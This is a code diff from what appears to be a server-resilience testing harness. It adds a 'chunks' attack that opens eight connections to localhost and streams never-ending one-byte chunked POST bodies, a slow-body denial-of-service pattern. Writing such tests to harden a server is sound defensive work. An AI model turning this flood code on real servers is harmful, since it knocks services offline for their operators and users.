@@ -59,3 +59,27 @@ export const refusals: Attack = {
   does: 'Asks for the time on each connection, and leaves for a new one before it is closed for going on.',
   start: (target, signal, opened) => ask('/api/time', target, signal, opened, UNPUNISHED),
 }
+
+const CHUNKS = '1\r\na\r\n'.repeat(10_000)
+
+export const chunks: Attack = {
+  name: 'chunks',
+  does: 'Eight requests whose bodies come in chunks of a byte, for ever.',
+  isFlood: true,
+  start: async ({ url, from }, signal, opened) => {
+    await Promise.all(
+      Array.from({ length: CONNECTIONS }, async () => {
+        while (goesOn(signal)) {
+          const connection = new Connection(url, from)
+          opened(connection)
+          connection.write('POST /api/visitors HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n')
+          while (connection.isOpen && goesOn(signal)) {
+            if (connection.isTaken) connection.write(CHUNKS)
+            await pause(1)
+          }
+          connection.end()
+        }
+      }),
+    )
+  },
+}
